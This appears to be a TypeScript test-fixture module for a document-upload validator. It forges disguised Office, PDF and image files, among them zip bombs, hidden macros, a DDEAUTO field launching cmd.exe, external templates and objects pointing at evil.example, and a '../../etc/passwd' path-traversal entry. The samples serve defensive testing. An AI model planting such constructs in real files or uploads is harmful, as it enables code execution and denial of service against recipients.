import { crc32, deflateRawSync } from 'node:zlib';
import type { DocumentFault } from '#contract/documents/rules.ts';
import type { TestApp } from './app.ts';
import { metadataOf } from './lists.ts';
import { blackPng, HTML, SVG } from './photos.ts';

interface Part {
  readonly name: string;
  readonly content: Buffer | string;
  /** Forged header fields. */
  readonly forged?: { readonly unpacked?: number; readonly offset?: number; readonly flags?: number };
}

/** A ZIP archive as Office writes it, or a forged one. */
export function buildZip(parts: readonly Part[], comment = ''): Buffer {
  const [local, table]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const { name, content, forged = {} } of parts) {
    const raw = Buffer.from(content);
    const packed = deflateRawSync(raw, { level: 9 });
    const title = Buffer.from(name);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(forged.flags ?? 0, 2);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(crc32(raw), 10);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(forged.unpacked ?? raw.length, 18);
    facts.writeUInt16LE(title.length, 22);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(forged.offset ?? at, 10);
    table.push(Buffer.from('PK\x01\x02\x14\x00', 'latin1'), facts, rest, title);
    local.push(Buffer.from('PK\x03\x04', 'latin1'), facts, title, packed);
    at += 30 + title.length + packed.length;
  }
  const bytes = Buffer.concat(table).length;
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(bytes, 12);
  end.writeUInt32LE(at, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...local, ...table, end, Buffer.from(comment)]);
}

const TYPES = { name: '[Content_Types].xml', content: '<Types/>' };
const WORD = { name: 'word/document.xml', content: '<document>The wall of the north wing</document>' };
export const docx = (...more: readonly Part[]): Buffer => buildZip([TYPES, WORD, ...more]);
export const xlsx = (): Buffer => buildZip([TYPES, { name: 'xl/workbook.xml', content: '<workbook/>' }]);
export const pdf = (text = 'Certificate of insurance'): Buffer => Buffer.from(`%PDF-1.7\n%âãÏÓ\n${text}\n%%EOF\n`);

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** A part with one relationship. */
export const relation = (attributes: string, name = 'word/_rels/document.xml.rels'): Part => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8"?>\n<!-- <x> --><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
});
export const external = (type: string, target: string): Part =>
  relation(`Type="${RELATIONS}/${type}" Target="${target}" TargetMode="External"`);
const contentType = (type: string): Buffer =>
  buildZip([
    { name: '[Content_Types].xml', content: `<Types><Override PartName="/a" ContentType="${type}"/></Types>` },
    WORD,
  ]);
/** A compound file with one directory entry. */
const compound = (stream: string): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(400),
  ]);

/** A Word file of 1997 to 2003: its header with flags, its text, and the names of its streams. */
export function oldWord(text = 'The wall is done.', { flags = 0, streams = [] as string[] } = {}): Buffer {
  const header = Buffer.alloc(512);
  header.writeUInt16LE(0xa5ec, 0);
  header.writeUInt16LE(flags, 0x0a);
  const body = Buffer.alloc(1024);
  body.write(text, 'latin1');
  const names = ['Root Entry', 'WordDocument', '1Table', ...streams].map((name) => {
    const entry = Buffer.alloc(128);
    entry.write(name, 'utf16le');
    return entry;
  });
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), header, body, ...names]);
}

/** What acts by itself in an old Word file. */
const hiddenInOldWord = (): Record<string, [Buffer, DocumentFault]> => ({
  'macro.doc': [oldWord('', { streams: ['Macros', '_VBA_PROJECT'] }), 'executable'],
  'packaged program.doc': [oldWord('', { streams: ['\x01Ole10Native'] }), 'executable'],
  'locked.doc': [oldWord('', { flags: 0x0100 }), 'type'],
  'workbook.doc': [compound('Workbook'), 'type'],
  'dde.doc': [oldWord('\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14'), 'external'],
  'picture.doc': [oldWord('\x13INCLUDEPICTURE "http://evil.example/a.png" \x14'), 'external'],
  'wide field.doc': [oldWord([...'\x13 DDE "a" '].join('\0')), 'external'],
  'template.doc': [oldWord([...'https://evil.example/a.dotm'].join('\0')), 'external'],
});

/** Macros and content from elsewhere under harmless names. */
function hiddenInOffice(): Record<string, [Buffer, DocumentFault]> {
  const template = 'http://evil.example/a.dotm';
  const project = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
  const macro = { name: 'word/media/image1.png', content: compound('_VBA_PROJECT') };
  const inner = docx(macro);
  return {
    'renamed macro.docx': [docx(macro), 'executable'],
    'lower case macro.docx': [docx({ ...macro, content: compound('_vba_project') }), 'executable'],
    'packaged program.docx': [
      docx({ name: 'word/embeddings/a.bin', content: compound('\x01Ole10Native') }),
      'executable',
    ],
    'renamed program.docx': [docx({ name: 'word/media/image1.png', content: 'MZ\x90\0' }), 'executable'],
    'macro within a workbook within.docx': [docx({ name: 'word/embeddings/a.xlsx', content: inner }), 'executable'],
    'macro type.docx': [contentType('application/vnd.ms-word.document.macroEnabled.main+xml'), 'executable'],
    'macro relation.docx': [docx(relation(`Type="${project}" Target="a.bin"`)), 'executable'],
    'external template.docx': [docx(external('attachedTemplate', template)), 'external'],
    'shared template.docx': [docx(external('attachedTemplate', 'file:////server/share/a.dotm')), 'external'],
    'shared template 2.docx': [docx(external('attachedTemplate', '\\\\server\\share\\a.dotm')), 'external'],
    'external object.docx': [docx(external('oleObject', 'https://evil.example/a.html!')), 'external'],
    'external frame.docx': [docx(external('frame', 'https://evil.example/')), 'external'],
    'external picture.docx': [docx(external('image', 'https://evil.example/a.png')), 'external'],
    'quoted.docx': [
      docx(relation(`x='>' Type='${RELATIONS}/attachedTemplate' Target='${template}' TargetMode = 'External'`)),
      'external',
    ],
    'escaped.docx': [
      docx(relation(`Type="${RELATIONS}/attached&#x54;emplate" Target="${template}" TargetMode="&#69;xternal"`)),
      'external',
    ],
    'upper case.docx': [
      docx(
        relation(`Type="${RELATIONS}/oleObject" Target="${template}" TargetMode="External"`, 'WORD/_RELS/A.XML.RELS'),
      ),
      'external',
    ],
    'prefixed.docx': [
      docx({
        name: '_rels/.rels',
        content: `<p:Relationship Type="${RELATIONS}/frame" Target="a" TargetMode="External"/>`,
      }),
      'external',
    ],
    'entities.docx': [docx({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }), 'type'],
    'wide text.docx': [docx({ name: '_rels/.rels', content: Buffer.from('\uFEFF<a/>', 'utf16le') }), 'type'],
    'wide part.docx': [docx({ name: 'word/a.xml', content: Buffer.from('\uFEFF<a/>', 'utf16le') }), 'type'],
    'linked program.docx': [
      docx({ name: 'xl/externalLinks/a.xml', content: `<a>${' '.repeat(70_000)}<ddeLink/></a>` }),
      'external',
    ],
    'imported.docx': [docx(relation(`Type="${RELATIONS}/aFChunk" Target="a.rtf"`)), 'external'],
    'larger than it says.docx': [
      docx({ name: 'a', content: Buffer.alloc(300_000), forged: { unpacked: 1_000 } }),
      'zip-bomb',
    ],
    'smaller than it says.docx': [docx({ name: 'a', content: 'a', forged: { unpacked: 1_000 } }), 'type'],
  };
}

const heic = (): Buffer => Buffer.from('0000001c6674797068656963000000006d696631686569636d6961660000', 'hex');

export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Eight gray pixels a side. */
const JPEG = Buffer.from(
  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAP/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKAA/9k=',
  'base64',
);

/** Accepted files by name, each with its media type. */
export const validDocuments = (): Record<string, [Buffer, string]> => ({
  'insurance.pdf': [pdf(), 'application/pdf'],
  'letter.docx': [docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  'linked.docx': [
    docx(
      external('hyperlink', 'https://example.com/?a=1&amp;b=2'),
      { ...external('attachedTemplate', 'file:///C:\\Users\\ada\\Letter.dotx'), name: 'word/_rels/settings.xml.rels' },
      { name: 'word/embeddings/chart.xlsx', content: xlsx() },
      { name: 'word/embeddings/formula.bin', content: compound('Equation Native') },
    ),
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  ],
  'letter.doc': [oldWord('See \x13 HYPERLINK "https://example.com" \x14'), 'application/msword'],
  'costs.xlsx': [xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  'costs.csv': [Buffer.from('\uFEFFTrade,Amount\nCarpintería,1200\n'), 'text/csv'],
  'note.txt': [Buffer.from('The wall is done.\n'), 'text/plain'],
  'scan.jpeg': [JPEG, 'image/jpeg'],
  'plan.png': [blackPng(64), 'image/png'],
  'stamp.gif': [GIF, 'image/gif'],
  'phone.heic': [heic(), 'image/heic'],
});

/** Files disguised as documents, each with the expected fault. */
export function maliciousDocuments(): Record<string, [Buffer, DocumentFault]> {
  const zeros = Buffer.alloc(20_000_000);
  const macro = { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' };
  const whole = docx();
  return {
    ...hiddenInOffice(),
    ...hiddenInOldWord(),
    'page.pdf': [Buffer.from(HTML), 'type'],
    'late.pdf': [Buffer.concat([Buffer.from(HTML), pdf()]), 'type'],
    'drawing.png': [Buffer.from(SVG), 'type'],
    'drawing.txt': [Buffer.from(SVG), 'type'],
    'page.csv': [Buffer.from(`\n  ${HTML}`), 'type'],
    'latin.csv': [Buffer.from('Carpinter\xeda,1200', 'latin1'), 'type'],
    'bytes.txt': [Buffer.from('a\0b'), 'type'],
    'text.pdf': [Buffer.from('The wall is done.'), 'type'],
    'cut.jpeg': [JPEG.subarray(0, 100), 'type'],
    'program.pdf': [Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), 'type'],
    'old.docx': [Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'type'],
    'moving.png': [Buffer.from('GIF89a'), 'type'],
    'archive.docx': [buildZip([{ name: 'a.txt', content: 'a' }]), 'type'],
    'cut.docx': [whole.subarray(0, whole.length - 30), 'type'],
    'tail.docx': [Buffer.concat([whole, Buffer.from(HTML)]), 'type'],
    'climbing.docx': [docx({ name: '../../etc/passwd', content: 'root' }), 'type'],
    'twice.docx': [docx(WORD), 'type'],
    'locked.docx': [docx({ name: 'a', content: 'a', forged: { flags: 1 } }), 'type'],
    'overlapping.docx': [docx({ name: 'a', content: 'a', forged: { offset: 0 } }), 'type'],
    'bomb.docx': [docx({ name: 'word/media/a.xml', content: zeros }), 'zip-bomb'],
    'vast.docx': [docx({ name: 'a', content: 'a', forged: { unpacked: 4_000_000_000 } }), 'zip-bomb'],
    'macro.docx': [docx(macro), 'executable'],
    'program.docx': [docx({ name: 'word/embeddings/run.EXE', content: 'MZ' }), 'executable'],
  };
}

const TUS = { 'tus-resumable': '1.0.0' };
const PART = { ...TUS, 'content-type': 'application/offset+octet-stream' };
const CHUNK = 512_000;

/** The calls that the upload page makes. @param token of a session, or the secret of a link */
export function documentUploader(t: TestApp, token: string | null, path = '/document_uploads') {
  const begin = (name: string, bytes: number) =>
    t.call(token, 'POST', path, undefined, {
      ...TUS,
      'upload-length': String(bytes),
      'upload-metadata': metadataOf(name),
    });
  const part = (upload: string, at: number, content: Buffer) =>
    t.call(token, 'PATCH', `${path}/${upload}`, content, { ...PART, 'upload-offset': String(at) });
  return {
    begin,
    part,
    /** Uploads a whole file. @returns its id */
    async upload(name: string, file: Buffer): Promise<string> {
      const begun = await begin(name, file.length);
      if (begun.statusCode !== 201) throw new Error(begun.body);
      const upload = String(begun.headers.location).split('/').at(-1) ?? '';
      for (let at = 0; at < file.length; at += CHUNK) {
        const { statusCode } = await part(upload, at, file.subarray(at, at + CHUNK));
        if (statusCode !== 204) throw new Error(`a chunk was answered with ${statusCode}`);
      }
      return upload;
    },
  };
}

/** The secret of the link to `path` in an email. */
export function secretIn(raw: string, path: string): string {
  const text = raw.replace(/=\r?\n/g, '').replaceAll('=3D', '=');
  return text.split(path)[1]?.slice(0, 43) ?? '';
}
